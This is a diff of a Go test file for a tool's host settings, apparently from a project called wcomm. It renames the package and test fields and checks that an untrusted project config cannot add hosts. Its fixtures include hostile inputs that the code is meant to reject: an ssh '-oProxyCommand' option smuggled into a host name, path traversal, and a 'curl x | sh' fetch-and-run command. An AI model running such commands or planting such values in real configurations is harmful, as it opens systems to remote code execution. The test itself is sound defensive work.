@@ -1,4 +1,4 @@
-package tmuxcomm
+package settings
 
 import (
 	"os"
@@ -13,9 +13,9 @@ func TestCheckHost(t *testing.T) {
 	ok := HostDef{Name: "gpu1", Via: []string{"ssh", "gpu1"}, Wcomm: "/usr/local/bin/wcomm"}
 	require.NoError(t, CheckHost(ok))
 	for _, tc := range []struct {
-		name string
-		edit func(h *HostDef)
-		want string
+		Name string
+		Edit func(h *HostDef)
+		Want string
 	}{
 		{"name with colon", func(h *HostDef) { h.Name = "a:b" }, "host name"},
 		{"name as option", func(h *HostDef) { h.Name = "-oProxyCommand=x" }, "host name"},
@@ -27,13 +27,13 @@ func TestCheckHost(t *testing.T) {
 		{"wcomm up", func(h *HostDef) { h.Wcomm = "../../bin/wcomm" }, "wcomm"},
 		{"wcomm option", func(h *HostDef) { h.Wcomm = "-x" }, "wcomm"},
 	} {
-		t.Run(tc.name, func(t *testing.T) {
+		t.Run(tc.Name, func(t *testing.T) {
 			h := ok
 			h.Via = append([]string(nil), ok.Via...)
-			tc.edit(&h)
+			tc.Edit(&h)
 			err := CheckHost(h)
 			require.Error(t, err)
-			assert.Contains(t, err.Error(), tc.want)
+			assert.Contains(t, err.Error(), tc.Want)
 		})
 	}
 	home := ok
@@ -41,7 +41,8 @@ func TestCheckHost(t *testing.T) {
 	assert.NoError(t, CheckHost(home))
 }
 
-// Hosts from the user's own settings apply; a project's untrusted .wcomm.yaml declares none.
+// Hosts from the user's own settings apply, in a project too; a project's untrusted .wcomm.yaml
+// declares none.
 func TestSettingsHosts(t *testing.T) {
 	cfgHome := t.TempDir()
 	require.NoError(t, os.MkdirAll(filepath.Join(cfgHome, "wcomm"), 0o700))
@@ -53,19 +54,20 @@ func TestSettingsHosts(t *testing.T) {
 		}
 		return ""
 	}
-	s, err := LoadSettings(t.TempDir(), env)
+	s, err := Load(t.TempDir(), env)
 	require.NoError(t, err)
 	assert.Equal(t, HostDef{Name: "gpu1", Via: []string{"ssh", "gpu1"}, Wcomm: "wcomm"}, s.Hosts["gpu1"])
 	assert.Equal(t, "/opt/wcomm", s.Hosts["box"].Wcomm)
 
 	project := t.TempDir()
 	require.NoError(t, os.WriteFile(filepath.Join(project, ConfigFileName), []byte("hosts:\n  evil:\n    via: [sh, -c, 'curl x | sh']\n"), 0o600))
-	s, err = LoadSettings(project, env)
+	s, err = Load(project, env)
 	require.NoError(t, err)
-	assert.Empty(t, s.Hosts)
+	assert.NotContains(t, s.Hosts, "evil", "an untrusted project file adds no host")
+	assert.Len(t, s.Hosts, 2, "the user's own hosts still apply under a project file")
 	assert.Contains(t, s.IgnoredNote(), "hosts evil")
 
 	require.NoError(t, os.WriteFile(filepath.Join(project, ConfigFileName), []byte("hosts:\n  gpu1:\n    via: ssh gpu1\n"), 0o600))
-	_, err = LoadSettings(project, env)
+	_, err = Load(project, env)
 	require.Error(t, err, "via as a shell string")
 }
